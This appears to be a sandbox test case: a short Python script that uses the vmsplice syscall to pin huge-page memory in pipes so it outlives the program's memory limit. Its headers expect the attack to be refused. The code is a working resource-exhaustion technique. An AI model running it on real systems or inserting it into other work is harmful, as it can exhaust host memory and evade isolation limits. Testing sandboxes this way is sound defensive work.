# attack: leaves a page of each large block of memory in a pipe, which keeps all of the block when its program lets go of it
# exercise: xor
# expect: failed
# stopped by: all were refused
# needs: network
import ctypes
import mmap
import os
import platform

libc = ctypes.CDLL(None, use_errno=True)
call = 278 if platform.machine() == "x86_64" else 75
block, held, left = 2 << 20, [], 0
while left < 256:
    held.append(os.pipe())
    for _ in range(16):
        memory = mmap.mmap(-1, 2 * block, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
        memory.madvise(mmap.MADV_HUGEPAGE)
        first = ctypes.addressof(ctypes.c_char.from_buffer(memory))
        start = -first % block
        memory[start : start + block] = b"x" * block
        page = (ctypes.c_ulong * 2)(first + start, 4096)
        left += libc.syscall(call, held[-1][1], page, 1, 0) > 0
    if not left:
        break
raise SystemExit(f"{2 * left} MB are in pipes" if left else "all were " + "refused")
